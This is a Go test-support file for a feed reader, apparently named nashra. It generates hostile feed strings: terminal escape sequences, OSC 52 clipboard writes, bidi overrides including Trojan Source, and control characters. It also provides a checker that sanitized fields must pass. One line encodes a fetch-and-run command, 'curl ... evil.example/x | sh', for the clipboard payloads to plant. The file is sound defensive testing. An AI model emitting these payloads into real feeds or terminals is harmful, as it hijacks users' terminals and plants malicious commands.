// Package hostile generates hostile feeds and misbehaving HTTP servers, for
// tests and for trying nashra by hand: feeds whose every text field carries
// terminal escape sequences and bidi overrides, a gzip bomb streamed on the
// fly, redirect loops, a feed with tens of thousands of items, responses
// whose Content-Length lies, a server that trickles bytes and one that never
// answers. Server exposes them all at fixed paths.
//
// Nothing here is part of nashra's reading path: the package exists so that
// the poller, the store and the terminal front ends can be checked against
// everything a stranger's server may send.
package hostile

import (
	"encoding/base64"
	"fmt"
	"strings"
	"unicode/utf8"
)

// Payload is one hostile string: text a feed puts where a title, a name, a
// link or a body is expected.
type Payload struct {
	Name string // short, ASCII, for test output
	Text string // the hostile string itself
	// Visible is a plain-ASCII word carried inside Text that survives any
	// correct sanitizer (it is ordinary text around or between the
	// sequences), "" when the payload has none. Tests look for it to tell a
	// stored, sanitized field from a dropped one.
	Visible string
}

// clipboardCommand is what the OSC 52 payloads try to put on the user's
// clipboard.
var clipboardCommand = base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh\n"))

// Payloads returns the hostile strings the generated feeds carry, one per
// kind of attack. Sources: ECMA-48 (5th ed.) §5.3–5.6 for ESC, CSI and the
// control strings DCS, SOS, OSC, PM and APC with their 7-bit (ESC x) and
// 8-bit C1 (U+0090, U+0098, U+009B, U+009D, U+009E, U+009F) introducers and
// ST (ESC \, U+009C); xterm's ctlseqs for OSC 0 (window title), OSC 8
// (hyperlinks), OSC 52 (clipboard), DECRQSS/XTGETTCAP (DCS queries the
// terminal answers into the input) and DSR; the kitty graphics protocol for
// APC; UAX #9 §2 for the bidi formatting characters; CVE-2021-42574 (Trojan
// Source) for "abc" RLO "gnp.exe", which a terminal shows as "abcexe.png".
func Payloads() []Payload {
	return []Payload{
		{"csi-clear", "\x1b[2J\x1b[3J\x1b[H clear", "clear"},
		{"csi-color", "\x1b[31;1;5mred\x1b[0m", "red"},
		{"csi-report", "ask\x1b[6n\x1b[c\x1b[21t", "ask"},
		{"csi-params", "\x1b[" + strings.Repeat("9;", 400) + "9m long", "long"},
		{"osc-title", "\x1b]0;pwned\x07title", "title"},
		{"osc52-bel", "copy\x1b]52;c;" + clipboardCommand + "\x07", "copy"},
		{"osc52-st", "paste\x1b]52;p;" + clipboardCommand + "\x1b\\", "paste"},
		{"osc8", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"dcs", "query\x1bP$qm\x1b\\\x1bP+q544e\x1b\\", "query"},
		{"apc", "image\x1b_Gf=100,a=T;AAAA\x1b\\", "image"},
		{"sos-pm", "hidden\x1bXsos\x1b\\\x1b^pm\x1b\\", "hidden"},
		{"esc-reset", "reset\x1bc\x1b#8\x1b(0\x1b7\x1b8", "reset"},
		{"c1-csi", "eight\u009b2J\u009b31m", "eight"},
		{"c1-osc52", "clip\u009d52;c;" + clipboardCommand + "\u009c", "clip"},
		{"c1-dcs-apc", "ctl\u0090$qm\u009c\u009fapc\u009c\u0098s\u009c\u009ep\u009c", "ctl"},
		{"c0-del", "a\x00b\x07c\x08d\x0ee\x0ff\x7fg\x1bh bytes", "bytes"},
		{"cr-overwrite", "harmless\rEVIL", "harmless"},
		{"trojan-source", "abc\u202egnp.exe", "abc"},
		{"bidi-embed", "\u202aleft\u202c \u202bright\u202c \u202dforce\u202c", "left"},
		{"bidi-isolate", "\u2066iso\u2069\u2067late\u2069\u2068d\u2069", "iso"},
		{"bidi-marks", "\u200emarks\u200f\u061c", "marks"},
		{"separators", "line\u2028break\u2029para", "line"},
		{"invisible", "\ufeffzero\u206awidth\ufff9note\ufffb", "zero"},
	}
}

// byName returns the text of the payload called name.
func byName(name string) string {
	for _, p := range Payloads() {
		if p.Name == name {
			return p.Text
		}
	}
	panic("hostile: no payload " + name)
}

// forbiddenInText reports whether r must never reach a terminal from a
// stored single-line field: C0 controls, DEL, C1 controls, the bidi
// embeddings, overrides and isolates, the implicit marks and the line and
// paragraph separators.
func forbiddenInText(r rune) bool {
	switch {
	case r < 0x20, r >= 0x7f && r <= 0x9f:
		return true
	case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
		return true
	case r == 0x200e, r == 0x200f, r == 0x061c, r == 0x2028, r == 0x2029:
		return true
	}
	return false
}

// Hazard returns a description of the first character in s that a
// sanitized field must not hold, or "" when s is clean. multiline allows
// newline and tab (article bodies) and the implicit bidi marks LRM, RLM and
// ALM, which bodies keep; single-line fields (titles, names, URLs, types)
// allow neither. Always forbidden: ESC and the other C0 controls, DEL, C1
// controls (U+0080–U+009F), the bidi embeddings, overrides and isolates
// (U+202A–U+202E, U+2066–U+2069) and U+2028/U+2029.
func Hazard(s string, multiline bool) string {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return fmt.Sprintf("invalid UTF-8 at byte %d", i)
		case multiline && (r == '\n' || r == '\t' || r == 0x200e || r == 0x200f || r == 0x061c):
		case forbiddenInText(r):
			return fmt.Sprintf("%U at byte %d", r, i)
		}
		i += size
	}
	return ""
}
